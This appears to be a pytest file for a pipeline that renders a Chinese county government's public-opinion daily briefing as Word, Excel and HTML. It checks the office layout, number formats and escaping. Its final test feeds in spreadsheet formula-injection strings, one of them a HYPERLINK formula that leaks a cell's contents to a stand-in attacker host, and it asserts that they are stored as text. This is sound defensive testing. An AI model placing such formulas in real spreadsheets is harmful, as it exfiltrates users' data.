"""The three formats of one Document: Word with the office look (red masthead, 文号 line, real
headings, repeated table headers, charts, page numbers in the footer), Excel with one sheet
per table (frozen headers, numbers as numbers, percentages and times formatted), and one
self-contained, escaped web page."""

from __future__ import annotations

import io
import re
from datetime import datetime

import openpyxl
from docx.oxml.ns import qn

from pipeline.reports import charts
from pipeline.reports.document import Chart, Column, Document, Notice, Paragraph, Section, Table
from pipeline.reports.docx import render_docx
from pipeline.reports.html import render_html
from pipeline.reports.xlsx import render_xlsx, sheet_name
from pipeline.timeparse import SHANGHAI
from tests.pipeline.reports.conftest import word

WHEN = datetime(2026, 11, 28, 8, 0, tzinfo=SHANGHAI)
TABLE = Table("各平台信息量", (Column("平台"), Column("信息量（条）", "int"), Column("占比", "percent"),
                            Column("首次监测", "time"), Column("用时（小时）", "hours")),
              (("微博", 9, 0.6428571, WHEN, 4.5), ("网络问政<script>", 3, 0.2142857, None, None)), sheet="平台/渠道")
DOC = Document(kind="daily", masthead="云和县政务舆情日报", number="〔2026〕第331期", issuer="云和县政府办公室",
               issued=WHEN, title="2026年11月27日舆情日报", summary="本期共监测到涉云和信息12条。",
               notices=("本期数据不完整：1处信息源采集中断。",),
               sections=(Section("一、总体情况", (Paragraph("正文一段。"), TABLE,
                                                 Chart("走势", charts.trend_chart(["0时", "1时"], [1, 2])))),
                         Section("二、说明", (Notice("请注意"), Table("空表", (Column("项"),), (), empty="本期无。")))),
               basis="统计口径：按首次监测时间。", distribution="报送：县政府领导。")


def test_word_has_the_office_look_and_real_structure() -> None:
    document = word(render_docx(DOC))
    first = document.paragraphs[0]
    assert first.text == "云和县政务舆情日报" and first.runs[0].font.color.rgb == (0xC0, 0x00, 0x00)
    assert document.paragraphs[1].text == "〔2026〕第331期" and "2026年11月28日" in document.paragraphs[2].text
    assert [p.text for p in document.paragraphs if p.style.name == "Heading 1"] == ["一、总体情况", "二、说明"]
    table = document.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["平台", "信息量（条）", "占比", "首次监测", "用时（小时）"]
    assert [c.text for c in table.rows[1].cells] == ["微博", "9", "64.3%", "2026-11-28 08:00", "4.5"]
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None     # repeated on every page
    assert len(document.inline_shapes) == 1
    footer = document.sections[0].footer._element.xml
    assert "PAGE" in footer and "fldChar" in footer
    section = document.sections[0]
    assert round(section.page_width.cm, 1) == 21.0 and round(section.top_margin.cm, 1) == 3.7
    text = "\n".join(p.text for p in document.paragraphs)
    assert "提示：本期数据不完整" in text and "表2　空表" in text and "本期无。" in text
    assert "报送：县政府领导。" in text and "云和县政府办公室\t2026年11月28日印发" in text
    assert document.core_properties.title == "2026年11月27日舆情日报"


def test_excel_keeps_numbers_as_numbers_with_frozen_headers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(DOC)))
    assert book.sheetnames == ["概要", "平台渠道", "空表"]
    ws = book["平台渠道"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[2]] == ["微博", 9, 0.6428571, datetime(2026, 11, 28, 8, 0), 4.5]
    assert [c.number_format for c in ws[2]][1:] == ["0", "0.0%", "yyyy-mm-dd hh:mm", "0.0"]
    assert [c.value for c in ws[3]] == ["网络问政<script>", 3, 0.2142857, None, None]
    assert ws.column_dimensions["A"].width >= 16 and ws.max_row == 3
    cover = dict(row for row in book["概要"].iter_rows(min_row=2, values_only=True))
    assert cover["标题"] == "2026年11月27日舆情日报" and cover["提示"].startswith("本期数据不完整")
    assert book["空表"].max_row == 1


def test_sheet_names_are_valid_and_unique() -> None:
    taken: set[str] = set()
    names = [sheet_name(n, taken) for n in ("a/b", "a/b", "x" * 40, "[]:*?")]
    assert names == ["ab", "ab(2)", "x" * 31, "表"]


def test_the_web_page_is_one_escaped_self_contained_file() -> None:
    page = render_html(DOC).decode("utf-8")
    assert page.startswith("<!doctype html>") and '<meta charset="utf-8">' in page
    assert "data:image/png;base64," in page and not re.search(r"""(src|href)=["']?(https?:)?//""", page)
    assert "网络问政&lt;script&gt;" in page and "<script>" not in page
    assert "<h2>一、总体情况</h2>" in page and "表1　各平台信息量" in page and "64.3%" in page


def test_excel_writes_crawled_text_as_text_never_as_a_formula() -> None:
    hostile = ('=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")', "+86 0578-1234", "-1+1",
               "@SUM(A1)", "\t=1+1", "\r=1+1")
    table = Table("标题表", (Column("标题"), Column("条数", "int")), tuple((t, i) for i, t in enumerate(hostile)))
    doc = Document(kind="event", masthead="云和县政务舆情专报", number="〔2026〕第1期", issuer="云和县政府办公室",
                   issued=WHEN, title='=HYPERLINK("http://evil.example/","专报")', summary="=1+1",
                   sections=(Section("一、概况", (table,)),), basis="统计口径。")
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(doc)))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ws = book["标题表"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 2 + len(hostile))] == list(hostile)
    assert all(ws.cell(row=r, column=1).quotePrefix for r in range(2, 2 + len(hostile)))
    assert [ws.cell(row=r, column=2).value for r in range(2, 2 + len(hostile))] == list(range(len(hostile)))
    cover = dict(row for row in book["概要"].iter_rows(min_row=2, values_only=True))
    assert cover["标题"] == doc.title and cover["内容提要"] == "=1+1"
    assert not book["概要"]["A2"].quotePrefix      # ordinary text keeps its plain style
